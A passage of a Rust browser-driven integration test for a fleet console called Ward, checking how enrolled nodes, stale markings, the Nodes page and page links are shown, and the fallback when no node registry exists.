    .unwrap();
    let api: Value = reqwest::get(format!("{}/v1/nodes", srv.base))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let stale: Vec<bool> = api["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["stale"].as_bool().unwrap())
        .collect();
    assert_eq!(stale, [false, false, true], "{api}");
    assert_eq!(api["staleAfterSeconds"], json!(90), "{api}");

    let b = Browser::start().await;
    b.goto(&srv.console_url).await;
    b.wait_ready("list").await;
    let chips = b
        .js(
            "return Array.from(document.querySelectorAll('#fleet-node button')).map(e => \
             ({name: e.textContent, stale: e.getAttribute('data-stale'), \
               cls: e.className, title: e.title}))",
        )
        .await;
    let chips = chips.as_array().unwrap();
    let names: Vec<&str> = chips.iter().map(|c| c["name"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        ["node-a", "node-b", "node-c"],
        "every enrolled node: {chips:?}"
    );
    assert_eq!(
        b.js("return document.getElementById('fleet-node').getAttribute('data-source')")
            .await,
        json!("registry")
    );
    for c in chips {
        let title = c["title"].as_str().unwrap();
        let is_stale = c["name"] == "node-c";
        assert!(title.contains("last seen 20"), "{c}");
        assert_eq!(title.contains("stale"), is_stale, "{c}");
        assert_eq!(c["stale"], json!(is_stale.to_string()), "{c}");
        assert_eq!(
            c["cls"].as_str().unwrap().contains("qf-stale"),
            is_stale,
            "{c}"
        );
    }
    let chip_c = &chips[2]["title"];
    assert!(
        chip_c.as_str().unwrap().contains("(10 min ago)"),
        "{chip_c}"
    );
    // The stale marking is visible: a dashed border.
    let border = b
        .js("return getComputedStyle(document.querySelector(\"#fleet-node button[data-qf='node=node-c']\")).borderTopStyle")
        .await;
    assert_eq!(border, json!("dashed"));
    // A node without findings narrows the list to nothing.
    b.reset_ready().await;
    b.js("document.querySelector(\"#fleet-node button[data-qf='node=node-c']\").click()")
        .await;
    b.wait_ready("list").await;
    assert_eq!(b.text("#total-size").await, "0");
    b.screenshot("12-fleet-node-chips").await;

    // The Nodes page, from the header.
    b.reset_ready().await;
    b.click("#nav-nodes").await;
    b.wait_ready("nodes").await;
    assert_nothing_ran(&b, "Ward").await;
    let rows = b
        .js("return Array.from(document.querySelectorAll('#nodes-table tbody tr')).map(r => ({ \
               node: r.getAttribute('data-node'), stale: r.getAttribute('data-stale'), \
               link: r.querySelector('.node-link').getAttribute('href'), \
               cluster: r.querySelector('.c-cluster').textContent, \
               project: r.querySelector('.c-project').textContent, \
               agent: r.querySelector('.c-agent').textContent, \
               ago: r.querySelector('.c-seen').innerText, \
               seen: (r.querySelector('.c-seen time') || {}).getAttribute ? r.querySelector('.c-seen time').getAttribute('datetime') : null, \
               ring: r.querySelector('.drops-ring').textContent, \
               outbox: r.querySelector('.drops-outbox').textContent, \
               status: r.querySelector('.c-status').textContent }))")
        .await;
    let rows = rows.as_array().unwrap();
    assert_eq!(rows.len(), 3, "{rows:?}");
    let want = [
        (
            "node-a",
            "false",
            "prod-eu",
            "shop",
            "0.9.1",
            "7",
            "3",
            "Reporting",
        ),
        (
            "node-b",
            "false",
            odd.as_str(),
            "—",
            "0.9.1",
            "0",
            "0",
            "Reporting",
        ),
        ("node-c", "true", "—", "—", "0.8.0", "1", "—", "Stale"),
    ];
    for (i, (r, w)) in rows.iter().zip(want).enumerate() {
        let got = (
            r["node"].as_str().unwrap(),
            r["stale"].as_str().unwrap(),
            r["cluster"].as_str().unwrap(),
            r["project"].as_str().unwrap(),
            r["agent"].as_str().unwrap(),
            r["ring"].as_str().unwrap(),
            r["outbox"].as_str().unwrap(),
            r["status"].as_str().unwrap(),
        );
        assert_eq!(got, w, "{r}");
        // Last seen: the API's time (absolute, UTC) and how long ago.
        assert_eq!(r["seen"], api["nodes"][i]["lastSeenTime"], "{r}");
        let ago = r["ago"].as_str().unwrap();
        assert!(ago.contains(" UTC"), "{r}");
        if i == 2 {
            assert!(ago.starts_with("10 min ago"), "{r}");
        } else {
            assert!(ago.contains(" s ago") || ago.contains("just now"), "{r}");
        }
        assert_eq!(
            r["link"],
            json!(format!("#/?node={}", w.0)),
            "the row links to the node's findings"
        );
    }
    assert_eq!(b.text("#nodes-stale").await, "1");
    b.screenshot("13-fleet-nodes").await;

    // The node's link filters the list to it.
    b.reset_ready().await;
    b.click("#nodes-table tr[data-node='node-a'] .node-link")
        .await;
    b.wait_ready("list").await;
    assert_eq!(b.text("#total-size").await, "2");
    assert!(b
        .text("#list-meta")
        .await
        .contains(r#"resource.node="node-a""#));
    let shown = b
        .js("return Array.from(document.querySelectorAll('#findings-table tbody tr')).map(r => r.getAttribute('data-id')).sort()")
        .await;
    assert_eq!(shown, json!([fa[0].id(), fa[1].id()]));

    // The finding page's Node row links to the Nodes page, which picks the node out.
    b.reset_ready().await;
    b.goto(&format!("{}/#/findings/{}", srv.base, fb.id()))
        .await;
    b.wait_ready("finding-summary").await;
    assert_nothing_ran(&b, "Ward").await;
    assert_eq!(b.text("#card-resource dd.res-node").await, "node-b");
    assert_eq!(
        b.js("return document.querySelector('#card-resource dd.res-node a').getAttribute('href')")
            .await,
        json!("#/nodes?node=node-b")
    );
    b.reset_ready().await;
    b.click("#card-resource dd.res-node a").await;
    b.wait_ready("nodes").await;
    assert_eq!(
        b.js("return Array.from(document.querySelectorAll('#nodes-table tr.on')).map(r => r.getAttribute('data-node'))")
            .await,
        json!(["node-b"])
    );
    b.close().await;
    srv.stop().await;

    // `ward agent --serve` over the same database: no registry (404), chips from findings.
    let agent = TestServer::start(ApiConfig::default(), store.clone()).await;
    let r = reqwest::get(format!("{}/v1/nodes", agent.base))
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 404);
    let b = Browser::start().await;
    b.goto(&agent.console_url).await;
    b.wait_ready("list").await;
    assert_eq!(
        b.js("return Array.from(document.querySelectorAll('#fleet-node button')).map(e => e.textContent)")
            .await,
        json!(["node-a", "node-b"])
    );
    assert_eq!(
        b.js("return document.getElementById('fleet-node').getAttribute('data-source')")
            .await,
        json!("findings")
    );
    assert_eq!(
        b.js("return document.querySelectorAll('#fleet-node button[data-stale]').length")
            .await,
        json!(0)
    );
    b.reset_ready().await;
    b.click("#nav-nodes").await;
    b.wait_ready("nodes-none").await;
    assert!(b.text("#nodes-none").await.contains("No node registry"));
    b.close().await;
    agent.stop().await;
}
